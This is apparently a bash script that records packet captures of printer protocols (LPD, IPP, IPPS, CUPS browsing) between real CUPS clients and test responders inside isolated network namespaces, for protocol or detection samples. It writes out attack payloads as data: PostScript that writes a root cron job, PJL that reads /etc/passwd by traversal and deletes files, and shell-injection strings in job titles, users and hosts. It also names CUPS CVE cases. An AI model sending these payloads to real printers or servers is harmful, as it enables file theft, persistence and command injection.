#!/usr/bin/env bash
# Re-record the printing "doors" beyond 9100 (samples/doors-*.pcap): LPD (TCP 515), IPP (TCP 631),
# IPPS (TLS on TCP 631) and CUPS browsing (UDP 631), spoken by real Debian clients and servers
# (CUPS's lpd and ipp backends, ipptool, openssl) and by small responders of the project's own.
#
#   doors-lpd-cups.pcap           CUPS's `lpd` backend printing a small PostScript job twice: an
#                                 ordinary job, then one whose title, user and originating host
#                                 carry shell metacharacters (banner on, title not sanitised,
#                                 data file before control file)
#   doors-lpd-pjl.pcap            CUPS's `lpd` backend sending a PRET-style PJL job (INFO ID,
#                                 FSUPLOAD of 0:/../../etc/passwd, FSDELETE, RDYMSG) as a literal
#                                 ('l') data file
#   doors-lpd-hostile.pcap        tools/lpd_send.py from a third host: path traversal in file
#                                 names, shell metacharacters and an M (mail) line in a control
#                                 file, remove-jobs, short and long queue state, two jobs in one
#                                 connection, a data file of size 0 and one of 999999999999
#                                 bytes cut by the connection's end
#   doors-ipp-ipptool.pcap        ipptool's bundled get-printer-attributes.test and print-job.test
#                                 (a PostScript file that writes /etc/cron.d/x)
#   doors-ipp-backend.pcap        CUPS's `ipp` backend printing the same file twice: to a printer
#                                 without Create-Job (Print-Job), then to one with it (Create-Job +
#                                 Send-Document)
#   doors-ipp-admin.pcap          ipptool from a third host: CUPS-Add-Modify-Printer,
#                                 Set-Printer-Attributes, Pause-Printer (tools/ipp-tests/admin.test),
#                                 all refused with client-error-not-authorized
#   doors-ipp-ppd-injection.pcap  ipptool's get-printer-attributes.test (standing in for
#                                 cups-browsed) against a malicious IPP server whose text
#                                 attributes carry PPD lines (CVE-2024-47175)
#   doors-ipps-tls.pcap           openssl s_client to openssl s_server on TCP 631, SNI
#                                 printer.example
#   doors-cups-browsed.pcap       CUPS browsing datagrams to the client's UDP 631: the printer
#                                 announcing itself, a workstation announcing its own "printer",
#                                 and an announcement whose URI host is not the sender
#                                 (CVE-2024-47176)
#   doors-same-job.pcap           one PRET-like file (PJL INFO ID, FSUPLOAD, FSDELETE, RDYMSG,
#                                 then PostScript: exitserver, a /etc/cron.d/x writer) printed
#                                 from the client to the printer by CUPS's `socket` backend
#                                 (TCP 9100), its `lpd` backend (?format=l, TCP 515) and its
#                                 `ipp` backend (Print-Job, application/octet-stream, TCP 631);
#                                 the three sinks save what they received and the script fails
#                                 unless each got exactly the file's bytes
# The device side of IPP is tools/ipp_responder.py, of LPD tools/lpd_sink.py, of 9100
# tools/sink9100.py, so the clients' packets are authentic and the servers' plausible but
# synthetic.
#
# Usage (as root):  tools/record_doors.sh [OUTPUT_DIR]      (default: samples/)
#                   KEEP_WORK=1 tools/record_doors.sh       (keep logs and documents)
#                   INSTALL=0 ...                           (never run apt-get)
#                   ONLY=same-job tools/record_doors.sh     (record only the named cases,
#                                                            comma-separated: a file's name
#                                                            without doors- and .pcap, e.g.
#                                                            ONLY=lpd-pjl,same-job; the other
#                                                            files in OUTPUT_DIR are untouched)
#
# Network containment: four network namespaces this script creates and deletes, with no route
# anywhere else: dr-lan holds only a bridge (br0) that joins three hosts on 10.80.0.0/24 by veth
# pairs: dr-cli (10.80.0.5, the client and browsing victim), dr-prn (10.80.0.30, the printer)
# and dr-atk (10.80.0.66, an attacker's workstation and malicious IPP server). No default
# routes, IPv6 off. Every client talks only to one of those three addresses (10.80.0.99 appears
# only as text inside a browsing datagram). tcpdump runs on the server's side of each exchange
# (the printer's eth0; the attacker's for the malicious IPP server; the client's for the
# browsing datagrams it receives). Every process runs under `timeout`, every wait is bounded,
# and every server is ended by its PID.
#
# Needs (installed with apt-get when missing, unless INSTALL=0): cups (the lpd and socket backends),
# cups-daemon (the ipp backend), cups-ipp-utils (ipptool), tcpdump, iproute2, openssl,
# python3; tshark is optional (a summary at the end).

set -euo pipefail

ROOT=$(cd "$(dirname "$0")/.." && pwd)
OUT=$(realpath -m -- "${1:-$ROOT/samples}")  # absolute: the script works in $WORK
LPD_SINK=$ROOT/tools/lpd_sink.py
SINK9100=$ROOT/tools/sink9100.py
LPD_SEND=$ROOT/tools/lpd_send.py
IPP=$ROOT/tools/ipp_responder.py
BROWSE=$ROOT/tools/cups_browse.py
ADMIN_TEST=$ROOT/tools/ipp-tests/admin.test
BACKENDS=/usr/lib/cups/backend
IPPTOOL_TESTS=/usr/share/cups/ipptool
CLI=10.80.0.5 PRN=10.80.0.30 ATK=10.80.0.66
NSS=(dr-lan dr-cli dr-prn dr-atk)
FILTER='tcp port 515 or tcp port 631 or udp port 631'
SAME_JOB_FILTER='tcp port 9100 or tcp port 515 or tcp port 631'
CASES=(lpd-cups lpd-pjl lpd-hostile ipp-ipptool ipp-backend ipp-admin ipp-ppd-injection ipps-tls
       cups-browsed same-job)
# What a CUPS backend gets from cupsd, and nothing else from this shell's environment.
BENV=(env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin LANG=C CUPS_SERVERROOT=/etc/cups
      CUPS_DATADIR=/usr/share/cups)

die() { echo "record_doors: $*" >&2; exit 1; }
[ "$(id -u)" -eq 0 ] || die "must run as root (namespaces, tcpdump)"
want() {  # CASE: is it to be recorded (ONLY empty: every case)
    [ -z "${ONLY:-}" ] || [[ ",$ONLY," == *",$1,"* ]]
}
only=${ONLY:-}
for c in ${only//,/ }; do
    [[ " ${CASES[*]} " == *" $c "* ]] || die "ONLY: no case '$c' (cases: ${CASES[*]})"
done

need=()
[ -e $BACKENDS/lpd ] && [ -e $BACKENDS/socket ] || need+=(cups)
[ -x $BACKENDS/ipp ] || need+=(cups-daemon)
command -v ipptool >/dev/null || need+=(cups-ipp-utils)
command -v tcpdump >/dev/null || need+=(tcpdump)
command -v ip >/dev/null || need+=(iproute2)
command -v openssl >/dev/null || need+=(openssl)
command -v python3 >/dev/null || need+=(python3)
# shellcheck source=tools/record_lib.sh
. "$ROOT/tools/record_lib.sh"
install_needed
for f in $BACKENDS/lpd $BACKENDS/ipp $BACKENDS/socket; do [ -x "$f" ] || die "no CUPS backend $f"; done
for f in get-printer-attributes.test print-job.test; do
    [ -f "$IPPTOOL_TESTS/$f" ] || die "no $IPPTOOL_TESTS/$f (dpkg -L cups-ipp-utils)"
done
start_work bjnp-doors

stop_pid() {  # PID: ends one of our processes and forgets it
    local pid=$1 p keep=()
    kill -TERM "$pid" 2>/dev/null || true
    wait "$pid" 2>/dev/null || true
    for p in "${PIDS[@]}"; do [ "$p" = "$pid" ] || keep+=("$p"); done
    PIDS=("${keep[@]}")
}

build_site() {
    local ns host addr mac
    for ns in "${NSS[@]}"; do
        ip netns add "$ns"
        # IPv4 only: no router solicitations or MLD reports
        in_ns "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
        in_ns "$ns" ip link set lo up
    done
    in_ns dr-lan ip link add br0 type bridge stp_state 0 forward_delay 0
    in_ns dr-lan ip link set br0 up
    for host in cli:$CLI:05 prn:$PRN:30 atk:$ATK:66; do
        IFS=: read -r ns addr mac <<<"$host"
        in_ns dr-lan ip link add "v-$ns" type veth peer name eth0 netns "dr-$ns"
        in_ns dr-lan ip link set "v-$ns" master br0 up
        in_ns "dr-$ns" ip link set eth0 address "02:80:00:00:00:$mac"
        in_ns "dr-$ns" ip addr add "$addr/24" dev eth0
        in_ns "dr-$ns" ip link set eth0 up
        # Ethernet-sized frames: tcpdump sees a sender's segments before GSO/TSO cuts them, so
        # cap GSO at one MSS-sized segment (ethtool -K, where installed, also turns them off).
        in_ns "dr-$ns" ip link set eth0 gso_max_size 1500 gso_max_segs 1 ||
            die "cannot set gso_max_size on eth0 in dr-$ns (iproute2 too old?)"
        in_ns "dr-$ns" ethtool -K eth0 tso off gso off gro off 2>/dev/null || true
    done
    # the bridge forwards at once (no STP); give the links a moment to come up
    sleep 1
}

# Background processes are started with `ip netns exec` itself, not the in_ns function: a
# backgrounded function is a subshell, and $! would then name the subshell, not the process.
CAP_PID=
cap_start() {  # NAME NS [FILTER]: tcpdump on NS's eth0 into WORK/NAME.pcap
    : >"$WORK/$1.tcpdump.err"
    ip netns exec "$2" timeout 120 tcpdump -n -s 0 -U -i eth0 -w "$WORK/$1.pcap" "${3:-$FILTER}" \
        2>"$WORK/$1.tcpdump.err" &
    CAP_PID=$!
    PIDS+=("$CAP_PID")
    wait_for "$WORK/$1.tcpdump.err" "listening on"
    echo "== $1" >&2
}

cap_stop() {  # NAME: lets the last segments pass, stops tcpdump, installs the file
    sleep 1
    stop_pid "$CAP_PID"
    [ -s "$WORK/$1.pcap" ] || die "$1: nothing captured"
    install -m 0644 "$WORK/$1.pcap" "$OUT/$1.pcap"
    echo "   $OUT/$1.pcap: $(stat -c %s "$OUT/$1.pcap") bytes" >&2
}

SRV_PID=
start_lpd() {  # LOG MAX_CONNECTIONS [sink options]
    local log=$1 max=$2
    shift 2
    : >"$WORK/$log.out"
    ip netns exec dr-prn timeout 60 python3 "$LPD_SINK" --addr "$PRN" --max-connections "$max" \
        --timeout 50 --idle 5 --max-file 65536 "$@" >"$WORK/$log.out" 2>"$WORK/$log.log" &
    SRV_PID=$!
    PIDS+=("$SRV_PID")
    wait_for "$WORK/$log.out" READY
}

start_9100() {  # LOG [sink options]
    local log=$1
    shift
    : >"$WORK/$log.out"
    ip netns exec dr-prn timeout 60 python3 "$SINK9100" --addr "$PRN" --max-connections 1 \
        --timeout 50 --idle 10 "$@" >"$WORK/$log.out" 2>"$WORK/$log.log" &
    SRV_PID=$!
    PIDS+=("$SRV_PID")
    wait_for "$WORK/$log.out" READY
}

start_ipp() {  # NS ADDR LOG [responder options]
    local ns=$1 addr=$2 log=$3
    shift 3
    : >"$WORK/$log.out"
    ip netns exec "$ns" timeout 60 python3 "$IPP" --addr "$addr" --timeout 50 --max-connections 32 \
        "$@" >"$WORK/$log.out" 2>"$WORK/$log.log" &
    SRV_PID=$!
    PIDS+=("$SRV_PID")
    wait_for "$WORK/$log.out" READY
}

stop_srv() {  # LOG: ends the current server and shows what it saw
    stop_pid "$SRV_PID"
    sed 's/^/   | /' "$WORK/$1.log" >&2
}

lpd_backend() {  # LOG URI JOB USER TITLE OPTIONS FILE
    local log=$1 uri=$2
    shift 2
    echo "+ [dr-cli] DEVICE_URI='$uri' $BACKENDS/lpd $1 '$2' '$3' 1 '$4' $5" >&2
    in_ns dr-cli timeout 30 "${BENV[@]}" DEVICE_URI="$uri" TMPDIR="$WORK" \
        CONTENT_TYPE=application/octet-stream \
        $BACKENDS/lpd "$1" "$2" "$3" 1 "$4" "$5" >"$WORK/$log.out" 2>"$WORK/$log.log" ||
        die "lpd backend failed (see $WORK/$log.log)"
    grep -h '^INFO:' "$WORK/$log.log" | sed 's/^/   /' >&2 || true
}

ipp_backend() {  # LOG FILE
    local uri="ipp://$PRN:631/ipp/print"
    echo "+ [dr-cli] DEVICE_URI=$uri $BACKENDS/ipp 42 alice title 1 '' $2" >&2
    in_ns dr-cli timeout 60 "${BENV[@]}" DEVICE_URI="$uri" TMPDIR="$WORK" \
        CONTENT_TYPE=application/postscript FINAL_CONTENT_TYPE=application/postscript \
        $BACKENDS/ipp 42 alice title 1 '' "$2" >"$WORK/$1.out" 2>"$WORK/$1.log" ||
        die "ipp backend failed (see $WORK/$1.log)"
    grep -h -E '^(INFO|ERROR):|^DEBUG: (Sending|Print job accepted)' "$WORK/$1.log" |
        sed 's/^/   /' >&2 || true
}

raw_backend() {  # LOG BACKEND URI FILE: a CUPS backend sending FILE as is (job 10, alice, PRET)
    local log=$1 be=$2 uri=$3 file=$4
    echo "+ [dr-cli] DEVICE_URI='$uri' $BACKENDS/$be 10 alice PRET 1 '' $file" >&2
    in_ns dr-cli timeout 60 "${BENV[@]}" DEVICE_URI="$uri" TMPDIR="$WORK" \
        CONTENT_TYPE=application/octet-stream FINAL_CONTENT_TYPE=application/octet-stream \
        $BACKENDS/"$be" 10 alice PRET 1 '' "$file" >"$WORK/$log.out" 2>"$WORK/$log.log" ||
        die "$be backend failed (see $WORK/$log.log)"
    grep -h -E '^(INFO|ERROR):|^DEBUG: (Sending|Print job accepted)' "$WORK/$log.log" |
        sed 's/^/   /' >&2 || true
}

ipptool_run() {  # NS LOG URI TEST [ipptool options]: must PASS (unless MAY_FAIL=1)
    local ns=$1 log=$2 uri=$3 test=$4
    shift 4
    echo "+ [$ns] ipptool -tv $* $uri $test" >&2
    if ! in_ns "$ns" timeout 30 ipptool -tv "$@" "$uri" "$test" >"$WORK/$log.out" 2>&1; then
        [ "${MAY_FAIL:-0}" = 1 ] || die "ipptool $test failed (see $WORK/$log.out)"
        grep -m1 'status-code = ' "$WORK/$log.out" | sed 's/^ */   ipptool: /' >&2 || true
    fi
    grep -E '\[(PASS|FAIL|SKIP)\]' "$WORK/$log.out" | sed 's/^/   /' >&2
}

# --- the documents (no network involved) ------------------------------------------------
cd "$WORK"
# A tiny PostScript job that tries to write a cron job (a printer with file access would).
printf '%%!PS\n/outfile (/etc/cron.d/x) (w) file def\noutfile (* * * * * root id\\n) writestring\noutfile closefile\nshowpage\n' >job.ps
# PRET-style PJL: identify, read a file by traversal, delete one, change the display.
printf '\033%%-12345X@PJL INFO ID\r\n@PJL FSUPLOAD NAME="0:/../../etc/passwd" OFFSET=0 SIZE=1000\r\n@PJL FSDELETE NAME="0:/webServer/x"\r\n@PJL RDYMSG DISPLAY="pwned"\r\n\033%%-12345X' >pjl.prn
# The same, then PostScript that leaves the job server and writes a cron job: one file for
# three doors (doors-same-job).
printf '\033%%-12345X@PJL INFO ID\r\n@PJL FSUPLOAD NAME="0:/../../etc/passwd" OFFSET=0 SIZE=1000\r\n@PJL FSDELETE NAME="0:/webServer/x"\r\n@PJL RDYMSG DISPLAY="pwned"\r\n@PJL ENTER LANGUAGE=POSTSCRIPT\r\n%%!PS\nserverdict begin 0 exitserver\n/outfile (/etc/cron.d/x) (w) file def\noutfile (* * * * * root id\\n) writestring\noutfile closefile\nshowpage\n\033%%-12345X@PJL EOJ\r\n\033%%-12345X' >same.prn
# A self-signed certificate for the printer's TLS (EC P-256: small handshake).
timeout 30 openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
    -keyout tls.key -out tls.crt -days 3650 -subj /CN=printer.example \
    -addext subjectAltName=DNS:printer.example 2>openssl-req.log ||
    die "openssl req failed (see $WORK/openssl-req.log)"
# The backends run as root here and read the job as they would under cupsd.
chmod 0644 job.ps pjl.prn same.prn

build_site

# --- LPD ------------------------------------------------------------------------------------
if want lpd-cups; then
    cap_start doors-lpd-cups dr-prn
    start_lpd lpd-cups 2
    lpd_backend lpd-plain "lpd://$PRN/queue1" 7 alice "quarterly report" "" "$WORK/job.ps"
    sleep 0.5
    lpd_backend lpd-meta "lpd://$PRN/queue1?banner=on&sanitize_title=no&order=data,control" \
        8 'root;id' 'x;id>/tmp/p $(reboot) `id`|sh' 'job-originating-host-name=ws$(id)' \
        "$WORK/job.ps"
    sed -n '/^DEBUG: Control file is:/,/^DEBUG: lpd_command/p' "$WORK/lpd-meta.log" |
        sed 's/^/   /' >&2
    stop_srv lpd-cups
    cap_stop doors-lpd-cups
fi

if want lpd-pjl; then
    cap_start doors-lpd-pjl dr-prn
    start_lpd lpd-pjl 1
    lpd_backend lpd-pjl-backend "lpd://$PRN/queue1?format=l" 9 alice "PRET" "" "$WORK/pjl.prn"
    stop_srv lpd-pjl
    cap_stop doors-lpd-pjl
fi

if want lpd-hostile; then
    cap_start doors-lpd-hostile dr-prn
    start_lpd lpd-hostile 7
    echo "+ [dr-atk] python3 $LPD_SEND $PRN" >&2
    in_ns dr-atk timeout 60 python3 "$LPD_SEND" "$PRN" --wait 3 2>"$WORK/lpd-send.log" ||
        die "lpd_send.py failed (see $WORK/lpd-send.log)"
    sed 's/^/   /' "$WORK/lpd-send.log" >&2
    sleep 0.5
    stop_srv lpd-hostile
    cap_stop doors-lpd-hostile
fi

# --- IPP ------------------------------------------------------------------------------------
if want ipp-ipptool; then
    cap_start doors-ipp-ipptool dr-prn
    start_ipp dr-prn "$PRN" ipp-ipptool
    ipptool_run dr-cli gpa "ipp://$PRN:631/ipp/print" get-printer-attributes.test
    ipptool_run dr-cli pj "ipp://$PRN:631/ipp/print" print-job.test -f "$WORK/job.ps"
    stop_srv ipp-ipptool
    cap_stop doors-ipp-ipptool
fi

if want ipp-backend; then
    cap_start doors-ipp-backend dr-prn
    start_ipp dr-prn "$PRN" ipp-backend-1 --no-create-job
    ipp_backend backend-1 "$WORK/job.ps"
    stop_srv ipp-backend-1
    grep -q 'Print-Job .*document 112 bytes' "$WORK/ipp-backend-1.log" ||
        die "the responder did not get the document by Print-Job"
    start_ipp dr-prn "$PRN" ipp-backend-2
    ipp_backend backend-2 "$WORK/job.ps"
    stop_srv ipp-backend-2
    grep -q 'Send-Document .*document 112 bytes' "$WORK/ipp-backend-2.log" ||
        die "the responder did not get the document by Send-Document"
    cap_stop doors-ipp-backend
fi

if want ipp-admin; then
    cap_start doors-ipp-admin dr-prn
    start_ipp dr-prn "$PRN" ipp-admin
    ipptool_run dr-atk admin "ipp://$PRN:631/ipp/print" "$ADMIN_TEST"
    stop_srv ipp-admin
    cap_stop doors-ipp-admin
fi

if want ipp-ppd-injection; then
    cap_start doors-ipp-ppd-injection dr-atk
    start_ipp dr-atk "$ATK" ipp-evil --evil
    # ipptool checks what it gets and fails the test: the privacy-policy URI is not a valid URI.
    MAY_FAIL=1 ipptool_run dr-cli evil "ipp://$ATK:631/printers/evil" get-printer-attributes.test
    grep -A2 -E 'printer-(make-and-model|info) ' "$WORK/evil.out" | sed 's/^/   /' >&2 || true
    stop_srv ipp-evil
    cap_stop doors-ipp-ppd-injection
fi

# --- IPPS -----------------------------------------------------------------------------------
# -www: the server does not read its stdin (at EOF an interactive s_server drops the connection
# before the handshake); the client sends no request, so no status page is ever sent.
if want ipps-tls; then
    cap_start doors-ipps-tls dr-prn
    : >tls-server.out
    ip netns exec dr-prn timeout 30 openssl s_server -accept "$PRN:631" -cert tls.crt -key tls.key \
        -naccept 1 -www </dev/null >tls-server.out 2>tls-server.log &
    SRV_PID=$!
    PIDS+=("$SRV_PID")
    wait_for tls-server.out ACCEPT
    echo "+ [dr-cli] openssl s_client -connect $PRN:631 -servername printer.example </dev/null" >&2
    in_ns dr-cli timeout 20 openssl s_client -connect "$PRN:631" -servername printer.example \
        </dev/null >tls-client.out 2>tls-client.log || die "s_client failed (see $WORK/tls-client.log)"
    grep -E '^(subject|issuer)=|^(New|Protocol|    Protocol|    Cipher|Verification)' tls-client.out |
        sed 's/^/   /' >&2 || true
    for _ in $(seq 1 50); do kill -0 "$SRV_PID" 2>/dev/null || break; sleep 0.1; done
    stop_pid "$SRV_PID"
    cap_stop doors-ipps-tls
fi

# --- CUPS browsing --------------------------------------------------------------------------
if want cups-browsed; then
    cap_start doors-cups-browsed dr-cli
    : >browse.out
    ip netns exec dr-cli timeout 30 python3 "$BROWSE" listen "$CLI" --count 3 --timeout 20 \
        >browse.out 2>browse.log &
    SRV_PID=$!
    PIDS+=("$SRV_PID")
    wait_for browse.out READY
    in_ns dr-prn timeout 10 python3 "$BROWSE" send "$CLI" --bind "$PRN" --set own
    in_ns dr-atk timeout 10 python3 "$BROWSE" send "$CLI" --bind "$ATK" --set evil redirect
    for _ in $(seq 1 50); do kill -0 "$SRV_PID" 2>/dev/null || break; sleep 0.1; done
    stop_pid "$SRV_PID"
    sed 's/^/   | /' browse.log >&2
    cap_stop doors-cups-browsed
fi

# --- one job through three doors ---------------------------------------------------------------
if want same-job; then
    mkdir -m 0755 same-saved
    cap_start doors-same-job dr-prn "$SAME_JOB_FILTER"
    start_9100 same-9100 --save-dir "$WORK/same-saved"
    raw_backend same-socket socket "socket://$PRN:9100" "$WORK/same.prn"
    for _ in $(seq 1 50); do kill -0 "$SRV_PID" 2>/dev/null || break; sleep 0.1; done
    stop_srv same-9100
    sleep 0.5
    start_lpd same-lpd 1 --save-dir "$WORK/same-saved"
    raw_backend same-lpd-backend lpd "lpd://$PRN/queue1?format=l" "$WORK/same.prn"
    stop_srv same-lpd
    sleep 0.5
    start_ipp dr-prn "$PRN" same-ipp --no-create-job --save-dir "$WORK/same-saved"
    raw_backend same-ipp-backend ipp "ipp://$PRN:631/ipp/print" "$WORK/same.prn"
    stop_srv same-ipp
    grep -q "Print-Job .*document $(stat -c %s same.prn) bytes" \
        "$WORK/same-ipp.log" || die "the responder did not get the document by Print-Job"
    # Each door's sink must have received the file's bytes, unchanged (else no capture is installed).
    (cd same-saved && ls -l >&2)
    for f in same-saved/9100-1.bin same-saved/lpd-1-*.data same-saved/ipp-job-1.bin; do
        [ -f "$f" ] || die "same-job: no $f"
        cmp -s same.prn "$f" || die "same-job: $f differs from the file printed"
        echo "   $(sha256sum "$f")" >&2
    done
    [ "$(ls same-saved/*.bin same-saved/*.data | wc -l)" -eq 3 ] ||
        die "same-job: not exactly one document per door: $(ls same-saved)"
    echo "   the three doors received the same $(stat -c %s same.prn) bytes" \
         "(sha256 $(sha256sum <same.prn | cut -c1-64))" >&2
    cap_stop doors-same-job
fi

stop_all
if command -v tshark >/dev/null; then
    for f in "$OUT"/doors-*.pcap; do
        want "$(basename "$f" .pcap | sed 's/^doors-//')" || continue
        printf '%-32s %6d bytes %4d frames\n' "$(basename "$f")" "$(stat -c %s "$f")" \
            "$(tshark -r "$f" 2>/dev/null | wc -l)" >&2
    done
fi
echo done >&2
